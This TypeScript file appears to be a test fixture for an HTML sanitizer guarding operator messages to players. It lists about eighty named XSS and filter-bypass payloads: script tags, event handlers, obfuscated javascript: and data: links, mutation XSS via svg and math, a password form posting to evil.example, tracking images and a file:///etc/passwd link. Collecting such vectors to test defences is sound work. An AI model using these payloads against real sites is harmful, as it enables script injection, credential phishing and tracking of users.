/** HTML that means harm, by how it tries: what lets operators write to players is held against each. */
export const htmlAttacks: Readonly<Record<string, string>> = {
  'a script': '<script>alert(1)</script><p>after</p>',
  'a script in capitals over two lines': '<SCRIPT\n>alert(1)</SCRIPT\n><p>after</p>',
  'a script without an end': '<p>before</p><script>alert(1)',
  "a script within a script's name": '<scr<script>ipt>alert(1)</scr</script>ipt>',
  'an unfinished element': '<p>text</p><img src=x onerror=alert(1)//',
  'an event of a picture': '<img src="/x.png" onerror="alert(1)">',
  'an event after a slash': '<img/src="/x.png"/onerror=alert(1)>',
  'an event after a form feed': '<p\fonclick=alert(1)>text</p>',
  'an event without quotes': '<b onmouseover=alert(1)>text</b>',
  'an event of an unknown element':
    '<x onclick=alert(1) contenteditable onfocus=alert(2) autofocus>text</x>',
  'a link to a script': '<a href="javascript:alert(1)">here</a>',
  'a link to a script in entities': '<a href="&#106;avascript&colon;alert(1)">here</a>',
  'a link to a script in entities without ends':
    '<a href="&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058alert(1)">here</a>',
  'a link to a script with a tab in it': '<a href="java\tscript:alert(1)">here</a>',
  'a link to a script with a line end in it': '<a href="java&NewLine;script:alert(1)">here</a>',
  'a link to a script after a control sign': '<a href="\u0001javascript:alert(1)">here</a>',
  'a link to a script in capitals': "<a href=' JaVaScRiPt:alert(1)'>here</a>",
  'a link to data': '<a href="data:text/html,<script>alert(1)</script>">here</a>',
  'a link to VBScript': '<a href="vbscript:msgbox(1)">here</a>',
  'a link to a blob': '<a href="blob:https://aurora.test/1">here</a>',
  'a link to a file': '<a href="file:///etc/passwd">here</a>',
  'a link elsewhere without a scheme': '<a href="//evil.example/">here</a>',
  'a link elsewhere by a backslash': '<a href="/\\evil.example/">here</a>',
  'a link elsewhere by two backslashes': '<a href="\\\\evil.example/">here</a>',
  'a link elsewhere by a tab': '<a href="/\t/evil.example/">here</a>',
  'a link that hides its host behind a name':
    '<a href="https://bank.example@evil.example/">here</a>',
  'a link without encryption': '<a href="http://evil.example/">here</a>',
  'two addresses in one link': '<a href="/m/help" href="javascript:alert(1)">here</a>',
  'a link with a target and an event':
    '<a href="/m/help" target="_top" ping="https://evil.example" onclick="alert(1)">here</a>',
  'a picture of a script': '<img src="javascript:alert(1)">',
  'a picture of data': '<img src="data:image/svg+xml,<svg onload=alert(1)>">',
  'a picture from anywhere': '<img src="https://evil.example/track.png">',
  'a picture from anywhere without a scheme': '<img src="//evil.example/track.png">',
  'a picture from a host that looks allowed': '<img src="https://img.example.evil.example/a.png">',
  'a picture from an allowed name at another': '<img src="https://img.example@evil.example/a.png">',
  'a picture in several sizes': '<img src="/a.png" srcset="https://evil.example/a.png 2x">',
  'a style': '<p style="background:url(https://evil.example/)">text</p>',
  'a style element': "<style>@import 'https://evil.example/x.css';</style><p>text</p>",
  'a class, an id and a name': '<p class="overlay" id="login" name="body">text</p>',
  'a name that hides a part of the document':
    '<img name="body" src="/a.png"><span id="cookie">text</span>',
  'a frame with a document in it':
    '<iframe srcdoc="&lt;script&gt;alert(1)&lt;/script&gt;"></iframe>',
  'a frame': '<iframe src="javascript:alert(1)">within</iframe>',
  'an object': '<object data="javascript:alert(1)"><p>within</p></object>',
  'an embedded file': '<embed src="https://evil.example/x.swf">',
  'a form':
    '<form action="https://evil.example"><input name=password><button formaction="javascript:alert(1)">Log in</button></form>',
  'another base': '<base href="https://evil.example/"><a href="/m/help">here</a>',
  'a refresh': '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
  'a sheet from elsewhere': '<link rel=stylesheet href="https://evil.example/x.css">',
  'a drawing with a script': '<svg><script>alert(1)</script></svg>',
  'a drawing that begins at once':
    '<svg/onload=alert(1)><animate onbegin=alert(2) attributeName=x></svg>',
  'a drawing whose link changes':
    '<svg><a xlink:href="javascript:alert(1)"><text>here</text></a></svg>',
  'mathematics with a link': '<math href="javascript:alert(1)">here</math>',
  'a comment that ends early': '<!--><img src=x onerror=alert(1)>-->',
  'a comment with a bang': '<!--!><img src=x onerror=alert(1)>--!><p>text</p>',
  'a conditional comment': '<!--[if gte IE 4]><script>alert(1)</script><![endif]-->',
  'a section of characters': '<![CDATA[<script>alert(1)</script>]]>',
  'an instruction': '<?xml-stylesheet href="javascript:alert(1)"?><p>text</p>',
  'a mutation by a title in a drawing':
    '<svg><title><style><img src=x onerror=alert(1)></style></title></svg>',
  'a mutation by mathematics':
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  'a mutation by a form in mathematics':
    '<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>',
  'a mutation by noscript':
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
  'a mutation by a text area':
    '<textarea><img title="</textarea><img src=x onerror=alert(1)>"></textarea>',
  'a mutation by XMP': '<xmp><p title="</xmp><img src=x onerror=alert(1)>"></xmp>',
  'a mutation by a template': '<template><script>alert(1)</script></template><p>text</p>',
  'a mutation by a table':
    '<table><tr><td><a href="javascript:alert(1)"><script>alert(2)</script></table>',
  'markup as text': '&lt;script&gt;alert(1)&lt;/script&gt;',
  'markup as text twice': '&amp;lt;img src=x onerror=alert(1)&amp;gt;',
  'a quote in an alternative': '<img src="/a.png" alt=\'"><script>alert(1)</script>\'>',
  'a quote in an address': "<a href='/m/help?\"onclick=alert(1)//'>here</a>",
  'a grave accent for a quote': '<img src=`/a.png`onerror=alert(1)>',
  'a nought in a name':
    '<scr\u0000ipt>alert(1)</scr\u0000ipt><img src="/a.png" on\u0000error=alert(1)>',
  'a cell as wide as memory':
    '<table><tr><td colspan="99999999" rowspan="1e9">text</td></tr></table>',
  'a name of every object':
    '<constructor>text</constructor><__proto__ onclick=alert(1)>text</__proto__><toString>text</toString>',
  "an element of one's own": '<my-element is="x-script" onclick=alert(1)>text</my-element>',
  'a film': '<video poster="javascript:alert(1)"><source onerror=alert(1)></video>',
  'a detail that opens': '<details open ontoggle=alert(1)>text</details>',
  'a marquee': '<marquee onstart=alert(1)>text</marquee>',
};
